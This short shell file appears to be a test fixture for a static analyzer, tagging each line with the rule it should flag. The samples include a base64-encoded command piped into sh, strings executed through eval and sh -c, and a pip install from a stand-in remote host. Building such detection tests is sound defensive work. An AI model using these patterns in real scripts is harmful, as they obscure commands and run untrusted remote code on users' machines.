#!/bin/sh
echo aWQK | base64 -d | sh # FIND: shell.dynamic-code shell.obfuscated
cat list | xargs -I{} sh -c '{}' # FIND: shell.dynamic-code
find . -exec sh -c 'eval "$1"' _ {} \; # FIND: shell.dynamic-code
pip install https://drop.example.net/x.tar.gz # FIND: shell.install
npm install left-pad # FIND: shell.install
